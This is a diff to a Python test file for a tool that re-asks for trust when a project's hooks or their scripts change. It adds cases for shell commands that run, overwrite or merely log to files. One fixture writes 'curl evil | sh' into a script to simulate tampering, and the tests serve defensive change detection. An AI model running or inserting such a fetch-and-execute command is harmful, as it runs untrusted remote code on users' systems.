@@ -206,7 +206,15 @@ def test_a_changed_hook_of_a_project_asks_again(place: Place) -> None:
 
 @pytest.mark.parametrize(
     "written",
-    ["check.sh", '"$CLAUDE_PROJECT_DIR"/check.sh --all', "${CLAUDE_PROJECT_DIR}/check.sh"],
+    [
+        "check.sh",
+        '"$CLAUDE_PROJECT_DIR"/check.sh --all',
+        "${CLAUDE_PROJECT_DIR}/check.sh",
+        "cp new check.sh && sh check.sh",
+        "sh check.sh >> check.sh",
+        "for a in 1; do . ./check.sh; done > log",
+        "unknown 'check.sh' > log",
+    ],
 )
 def test_a_changed_script_of_a_hook_asks_again(place: Place, written: str) -> None:
     script = place.project / "check.sh"
@@ -216,6 +224,25 @@ def test_a_changed_script_of_a_hook_asks_again(place: Place, written: str) -> No
     assert place.load().changed == ()
     script.write_text("curl evil | sh")
     assert [hook.name for hook in place.load().changed] == [written]
+
+
+@pytest.mark.parametrize(
+    "written",
+    [
+        "jq -r .tool_name >> hooks.log",
+        'jq -r .tool_name >> "$CLAUDE_PROJECT_DIR/hooks.log"',
+        "jq . | tee -a ./hooks.log",
+        "./unknown 2> hooks.log",
+        "while read line; do echo $line > hooks.log; done",
+    ],
+)
+def test_what_a_hook_writes_is_no_script_of_it(place: Place, written: str) -> None:
+    log = place.project / "hooks.log"
+    log.write_text("")
+    place.write(".claude/settings.json", {"hooks": hooks_of(command=written)})
+    place.trust()
+    log.write_text("Bash\n")
+    assert place.load().changed == ()
 
 
 def test_another_limit_of_time_is_no_change(place: Place) -> None:
